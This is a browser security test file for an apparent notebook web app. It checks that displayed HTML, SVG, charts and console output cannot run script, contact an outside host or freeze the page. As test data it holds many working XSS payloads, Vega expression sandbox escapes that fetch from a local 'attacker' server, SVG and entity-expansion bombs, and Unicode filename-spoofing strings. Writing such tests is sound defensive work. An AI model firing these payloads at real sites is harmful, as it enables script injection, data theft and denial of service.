// What a guest displays is an attacker's. Nothing of it may run a script in the page, move it, ask anybody else for
// anything, or keep it from working.
import assert from 'node:assert/strict';
import {createServer} from 'node:http';
import {after, before, beforeEach, describe, test} from 'node:test';
import {newest, newSession, openPage, openTab, run, startBrowser, startServer} from './helper.js';

const text = (value) => JSON.stringify(value);

describe('hostile displays', {timeout: 300_000}, () => {
  let server;
  let browser;
  let opened;
  let page;
  let trap;       // a server of the attacker's
  let evil;       // its address
  let trapped = [];

  before(async () => {
    trap = createServer((request, response) => {
      trapped.push(`${request.method} ${request.url}`);
      response.writeHead(200, {'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html'});
      response.end('<script>top.pwned = 1; alert(1)</script>');
    });
    trap.on('connection', () => trapped.push('a connection'));
    await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
    evil = `http://127.0.0.1:${trap.address().port}`;
    server = await startServer();
    browser = await startBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.stop();
    trap?.close();
  });
  beforeEach(async () => {
    await opened?.context.close();
    trapped = [];
    opened = await openPage(browser, server.address, {viewport: {width: 1280, height: 900}});
    page = opened.page;
    await page.locator('#editor .cm-content').waitFor();
    await page.waitForFunction(() => document.querySelector('#desk-note').textContent !== '');
  });

  // Nothing came of it, and the page works.
  async function unharmed() {
    await page.waitForTimeout(500);
    assert.deepEqual(trapped, []);
    assert.deepEqual(opened.wrong, []);
    for (const frame of page.frames()) {
      const pwned = await frame.evaluate(() => globalThis.pwned).catch(() => undefined);
      assert.equal(pwned, undefined);
    }
    assert.equal(await page.evaluate(() => document.querySelectorAll('.exhibit script, .exhibit object, .exhibit embed, .exhibit a, .exhibit form:not(.question), .exhibit svg:not(.icon)').length), 0);
    const exhibit = await run(page, '20 + 22');
    assert.match(await exhibit.locator('.value').innerText(), /42/);
    assert.equal(new URL(page.url()).pathname, '/');
  }

  async function showHtml(html) {
    const exhibit = await run(page, `display(html=${text(html)})`);
    const frame = exhibit.locator('iframe.guest-html');
    const inner = exhibit.frameLocator('iframe.guest-html').frameLocator('iframe');
    await inner.locator('body').waitFor({state: 'attached'});
    return {exhibit, frame, inner};
  }

  const act = () => `top.pwned=1;parent.pwned=1;window.pwned=1;alert(1);fetch('${evil}/script')`;
  const cases = {
    'a script': () => `<p>x</p><script>${act()}</script><script src="${evil}/script.js"></script><script type="module" src="${evil}/module.js"></script>`,
    'event attributes': () => `<img src="${evil}/img" onerror="${act()}"><img src=x onerror="${act()}"><svg onload="${act()}"></svg><body onload="${act()}"><input autofocus onfocus="${act()}"><details open ontoggle="${act()}"><summary>s</summary></details>`,
    'links': () => `<a href="javascript:${act()}">one</a> <a href="${evil}/link">two</a> <a href="${evil}/top" target="_top">three</a> <a href="${evil}/blank" target="_blank">four</a> <a href="/v1/info" target="_parent" ping="${evil}/ping">five</a> <svg><a xlink:href="javascript:${act()}" href="${evil}/svg"><text y="20">six</text></a></svg>`,
    'meta and base': () => `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${act()}"><img src="relative.png">`,
    'forms': () => `<form action="${evil}/form" method="post" target="_top"><input name="a" value="b"><button>send</button></form><form><button formaction="javascript:${act()}">go</button></form>`,
    'frames': () => `<iframe src="${evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;${act()}&lt;/script&gt;"></iframe><iframe src="javascript:${act()}"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed"><iframe src="/"></iframe>`,
    'styles': () => `<style>@import url("${evil}/import.css"); body { background: url("${evil}/background.png"); } @font-face { font-family: evil; src: url("${evil}/font.woff"); } p { font-family: evil; }</style><p style="background-image: url(${evil}/style.png); cursor: url(${evil}/cursor.cur), auto">text</p><link rel="stylesheet" href="${evil}/link.css">`,
    'hints': () => `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}"><link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload"><link rel="icon" href="${evil}/icon"><link rel="manifest" href="${evil}/manifest">`,
    'media': () => `<video src="${evil}/video" autoplay poster="${evil}/poster"></video><audio src="${evil}/audio" autoplay></audio><picture><source srcset="${evil}/srcset"><img srcset="${evil}/srcset2 2x" src="${evil}/src"></picture><table background="${evil}/table"><tr><td>a</td></tr></table><svg><image href="${evil}/image"/><use href="${evil}/use#a"/></svg>`,
    'a template with a shadow': () => `<div><template shadowrootmode="open"><link rel="preconnect" href="${evil}"><img src="${evil}/shadow" onerror="${act()}"></template></div>`,
    'text that reads differently twice': () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act()}&gt;"><noscript><p title="</noscript><img src=${evil}/noscript onerror=${act()}>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${act()}>">`,
  };
  for (const [name, make] of Object.entries(cases)) {
    test(`HTML with ${name}`, async () => {
      const {inner} = await showHtml(`<h4>case</h4>${make()}`);
      for (const each of await inner.locator('a, button').all()) await each.click({force: true, timeout: 1500, noWaitAfter: true}).catch(() => undefined);
      await unharmed();
    });
  }

  test('HTML in a table, in a name, in a MIME type, in an exception', async () => {
    const bad = `<img src="${evil}/x" onerror="${act()}">`;
    await run(page, `display([{${text(bad)}: ${text(bad)}}])\ndisplay(html=${text(`<table><thead><tr><th>a</th></tr></thead><tr><td><b onclick="${act()}">x</b></td></tr></table>`)})\nprint(${text(bad)})\ndisplay(**{${text(`text/${bad}`)}: ${text(bad)}})\ndisplay({"json": 1}, json='{"${'<b>'}": 1')\ndisplay(markdown=${text(bad)})\nraise ValueError(${text(bad)})`);
    assert.match(await newest(page).locator('.table th').first().innerText(), /<img/);
    assert.match(await newest(page).locator('.failure-head').innerText(), /<img/);
    await newSession(page, '<img src=x onerror=alert(1)>');
    await openTab(page, 'Files');
    await page.locator('#upload-file').setInputFiles({name: '<img src onerror><b>alert(1).html', mimeType: 'text/html', buffer: Buffer.from('<script>alert(1)</script>')});
    await page.locator('.file-name', {hasText: '<img'}).waitFor();
    await unharmed();
  });

  test('an SVG with scripts and loads', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="${act()}"><script>${act()}</script><script href="${evil}/s.js"/><style>@import url("${evil}/svg.css");</style><image href="${evil}/image.png" width="9" height="9"/><use href="${evil}/use.svg#a"/><a href="javascript:${act()}"><rect width="80" height="40" fill="blue"/></a><foreignObject width="80" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/frame"></iframe></foreignObject></svg>`;
    const exhibit = await run(page, `display(svg=${text(svg.replaceAll('&', '&amp;'))})`);
    await exhibit.locator('.guest-picture[data-state="shown"]').click();
    await unharmed();
  });

  test('pictures that are none', async () => {
    await run(page, 'display(png=b"<script>alert(1)</script>")\ndisplay(png=b"")\ndisplay(svg="<svg")\ndisplay(jpeg=bytes(100000))');
    await page.waitForFunction(() => document.querySelectorAll('.exhibit .note.bad').length === 4);
    await unharmed();
  });

  const one = {values: [{a: 'x', b: 3}, {a: 'y', b: 4}]};
  const bar = {mark: 'bar', encoding: {x: {field: 'a'}, y: {field: 'b', type: 'quantitative'}}};
  const charts = {
    'data from an address': () => ({...bar, data: {url: `${evil}/data.json`}}),
    'a lookup from an address': () => ({...bar, data: one, transform: [{lookup: 'a', from: {data: {url: `${evil}/lookup.csv`}, key: 'a', fields: ['b']}}]}),
    'data from our own server': () => ({...bar, data: {url: '/v1/info'}}),
    'a map from an address': () => ({data: {url: `${evil}/map.json`, format: {type: 'topojson', feature: 'x'}}, mark: 'geoshape'}),
    'links': () => ({data: one, mark: {type: 'bar', href: `javascript:${act()}`}, encoding: {...bar.encoding, href: {value: `${evil}/href`}}}),
    'pictures from an address': () => ({data: {values: [{a: 1, u: `${evil}/mark.png`}]}, mark: {type: 'image', width: 20, height: 20}, encoding: {x: {field: 'a', type: 'quantitative'}, url: {field: 'u'}}}),
    'expressions that reach for more': () => ({...bar, data: one, transform: [{calculate: `[].constructor.constructor('${'postMessage(1);'}fetch("${evil}/expr")')()`, as: 'c'}]}),
    'expressions in parameters': () => ({...bar, data: one, params: [{name: 'p', expr: `toString.constructor("fetch('${evil}/param')")()`}, {name: 'q', value: 1, bind: {input: 'range'}}]}),
    'a fetch in a signal': () => ({...bar, data: one, params: [{name: 'p', value: {toString: 'x'}, expr: `event.view.open('${evil}/open')`}]}),
    'markup in its texts': () => ({...bar, data: {values: [{a: `</text><script>${act()}</script><image href="${evil}/i"/>`, b: 1}]}, title: `<img src=${evil}/t onerror=${act()}>`, usermeta: {embedOptions: {loader: {baseURL: evil}}}}),
    'a sequence without end': () => ({data: {sequence: {start: 0, stop: 1e12}}, mark: 'point', encoding: {x: {field: 'data', type: 'quantitative'}}}),
    'a computation without end': () => ({...bar, data: one, transform: [{calculate: 'length(sequence(0, 400000000))', as: 'c'}]}),
    'values without end': () => ({...bar, data: one, transform: [{calculate: 'sequence(20000)', as: 's'}, {flatten: ['s']}, {calculate: 'sequence(20000)', as: 't'}, {flatten: ['t']}]}),
    'a million steps': () => ({data: one, mark: 'point', encoding: {x: {field: 'b', type: 'quantitative', axis: {tickCount: 5e8}, bin: {maxbins: 1e9}}}}),
    'an enormous size': () => ({...bar, data: one, width: 1e9, height: 1e9}),
    'no sense': () => ({mark: {type: {}}, encoding: []}),
  };
  test('charts', async () => {
    for (const [name, make] of Object.entries(charts)) {
      const exhibit = await run(page, `import json\ndisplay(**{"application/vnd.vegalite.v5+json": ${text(JSON.stringify(make()))}})`);
      const chart = exhibit.locator('.chart');
      await page.waitForFunction((element) => element.dataset.state, await chart.elementHandle(), {timeout: 25_000});
      const state = await chart.getAttribute('data-state');
      if (/address|own server|without end|more/.test(name) && !/pictures/.test(name)) assert.equal(state, 'refused', name);
      assert.deepEqual(trapped, [], name);
      assert.deepEqual(opened.wrong, [], name);
    }
    // After all that charts are drawn as before.
    const exhibit = await run(page, `display(vega_lite=${text({...bar, data: one})})`);
    await exhibit.locator('.chart[data-state="drawn"]').waitFor({timeout: 20_000});
    await unharmed();
  });

  test('while a chart computes without end the page answers', async () => {
    const exhibit = await run(page, `display(**{"application/vnd.vegalite.v5+json": ${text(JSON.stringify(charts['values without end']()))}})`);
    const started = Date.now();
    for (let round = 0; round < 10; ++round) await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    assert.ok(Date.now() - started < 3000, `ten frames took ${Date.now() - started} ms`);
    await exhibit.locator('.chart[data-state="refused"]').waitFor({timeout: 20_000});
    await unharmed();
  });

  test('a huge table, a huge text, huge and deep data', async () => {
    const exhibit = await run(page, 'print("x" * 600000)\nprint("\\n" * 100000)\ndisplay(html="<table><thead><tr>" + "<th>c</th>" * 300 + "</tr></thead>" + ("<tr>" + "<td>1</td>" * 300 + "</tr>") * 400 + "</table>")\ndisplay(html="<p>" * 100000)\ndeep = []\nfor _ in range(3000): deep = [deep]\ndisplay(json="[" * 50000 + "]" * 50000)\n[{"a": i, "b": "y" * 50} for i in range(20000)]');
    assert.match(await exhibit.getAttribute('data-status'), /ok|exception/);
    await page.waitForFunction(() => performance.now() > 0);
    const started = Date.now();
    await page.locator('#help').click();
    await page.locator('dialog.help').waitFor();
    assert.ok(Date.now() - started < 4000, `the help took ${Date.now() - started} ms`);
    await page.keyboard.press('Escape');
    await unharmed();
  });

  // Each of these would keep a browser busy for hours. The page goes on, and takes away what does not come to an end.
  const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">${inner}</svg>`;
  const copies = Array.from({length: 12}, (_, level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`).join('');
  const bomb = svg(`<rect id="u0" width="1" height="1"/>${copies}`);
  const endless = {
    'copies of copies in an SVG': `display(svg=${text(bomb)})`,
    'copies of copies in HTML': `display(html=${text(`<h3>x</h3>${bomb}`)})`,
    'entities of entities': `display(svg=${text(`<!DOCTYPE svg [<!ENTITY e0 "xxxxxxxxxx">${Array.from({length: 9}, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')}]>${svg('<text>&e9;</text>')}`)})`,
    'filters of a huge area': `display(svg=${text(svg(`<filter id="f" x="-5000%" y="-5000%" width="10000%" height="10000%"><feTurbulence numOctaves="200"/><feGaussianBlur stdDeviation="900"/></filter>${'<rect width="100" height="100" filter="url(#f)"/>'.repeat(200)}`))})`,
    'styles that stay open': 'display(html="".join(f"<b x{i}>" for i in range(20000)) + "<p>x" * 20000)',
    'selectors that search': `display(html="<style>" + "".join(f":has({'* ' * 20}x{i}){{color:red}}" for i in range(3000)) + "</style>" + "<div>" * 300 + "<p>x" * 20000)`,
  };
  for (const [name, code] of Object.entries(endless)) {
    test(`what does not end: ${name}`, async () => {
      const exhibit = await run(page, code);
      let worst = 0;
      for (let round = 0; round < 20; ++round) {
        const started = Date.now();
        await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
        worst = Math.max(worst, Date.now() - started);
      }
      assert.ok(worst < 2500, `the page was busy for ${worst} ms`);
      if (/copies of copies in an SVG/.test(name)) await exhibit.locator('.note.bad', {hasText: 'taken away'}).waitFor({timeout: 25_000});
      await unharmed();
    });
  }

  test('a flood of output in small pieces', async () => {
    const exhibit = await run(page, 'import sys\nfor i in range(30000):\n    print("\\x1b[31mred\\x07", i, file=[sys.stdout, sys.stderr][i % 2])');
    assert.match(await exhibit.getAttribute('data-status'), /ok|limit/);
    await unharmed();
  });

  test('controls and overrides are shown, not obeyed', async () => {
    const exhibit = await run(page, 'print("a\\x1b[2Jb\\x1b]8;;http://evil\\x07c\\rd\\u202etxt.exe\\u2066\\u200b\\x00\\x9b")\n"\\u202egnp"');
    const shown = await exhibit.locator('.output').innerText();
    for (const escape of ['\\x1b[2J', '\\x1b]8;;', '\\x07', '\\r', '\\u202e', '\\u2066', '\\u200b', '\\x00', '\\x9b']) assert.ok(shown.includes(escape), `${escape} is not in ${shown}`);
    const hidden = await exhibit.evaluate((each) => /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b]/.test(each.textContent));
    assert.equal(hidden, false);
    assert.ok((await exhibit.locator('.output .escape').count()) >= 9);
    await newSession(page, 'name\u202egpj.exe').catch(() => undefined);
    assert.doesNotMatch(await page.evaluate(() => document.body.innerText), /\u202e/);
    await page.keyboard.press('Escape');
    await unharmed();
  });

  test('the frames are what their policies say, also when they are opened alone', async () => {
    for (const name of ['chart.html', 'html.html']) {
      const answer = await page.request.get(`${server.address}/assets/${name}`);
      assert.match(answer.headers()['content-security-policy'], /default-src 'none'.*sandbox allow-scripts/);
      assert.doesNotMatch(answer.headers()['content-security-policy'], /unsafe-eval|allow-same-origin|connect-src/);
    }
    const answer = await page.request.get(`${server.address}/`);
    const policy = answer.headers()['content-security-policy'];
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /require-trusted-types-for 'script'/);
    assert.doesNotMatch(policy, /unsafe|https?:|\*/);
  });

  test('a message from elsewhere is not believed', async () => {
    await run(page, 'display(vega_lite={"data": {"values": [{"a": 1}]}, "mark": "point"})');
    await page.locator('.chart[data-state="drawn"]').waitFor();
    await page.evaluate(() => {
      for (let id = 0; id < 10; ++id) window.postMessage({id, svg: '<svg onload="alert(1)"></svg>', width: 1, height: 1, tips: []}, '*');
      window.postMessage('ready', '*');
    });
    await unharmed();
  });
});
